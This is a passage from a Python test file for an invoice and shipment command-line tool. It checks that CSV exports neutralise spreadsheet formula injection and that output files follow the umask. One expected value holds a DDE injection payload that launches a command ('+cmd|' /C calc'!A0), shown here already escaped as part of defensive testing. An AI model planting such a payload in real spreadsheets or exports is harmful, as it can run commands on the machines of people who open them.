    handled(batch(folder, "--out", out), 0)

    (row,) = summary(out)
    assert (row["invoice_number"], row["consignee"], row["originating_value_eur"]) == (
        "'@INV-1",
        "'" + formula,
        "1000.00",
    )
    data = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert data["shipments"][0]["consignee"] == formula  # JSON is data, not a spreadsheet: unchanged

    exported = run_cli(["register", "export", "--register", out / "register.sqlite"]).output
    (line,) = list(csv.DictReader(io.StringIO(exported)))
    assert (line["invoice_number"], line["consignee_name"], line["description"], line["quantity"]) == (
        "'@INV-1",
        "'" + formula,
        "'+cmd|' /C calc'!A0",
        "10",
    )
    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    assert "formula injection" in readme


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600)])
def test_output_files_follow_the_umask(tmp_path: Path, good: Path, umask: int, mode: int) -> None:
    previous = os.umask(umask)
    try:
        handled(generate(good, tmp_path / "docs", "--register", tmp_path / "docs" / "register.sqlite"), 0)
        handled(batch(good.parent, "--out", tmp_path / "out", "--jobs", "1"), 0)
        handled(
            run_cli(
                ["register", "export", "--register", tmp_path / "out" / "register.sqlite", "-o", tmp_path / "e.csv"]
            ),
            0,
        )
    finally:
        os.umask(previous)
    written = [
        *(tmp_path / "docs").glob("*.pdf"),
        *(tmp_path / "out").rglob("*.pdf"),
        tmp_path / "out" / "summary.csv",
        tmp_path / "out" / "summary.json",
        tmp_path / "e.csv",
    ]
    assert len(written) == 7
    assert {path.name: oct(path.stat().st_mode & 0o777) for path in written} == {
        path.name: oct(mode) for path in written
    }
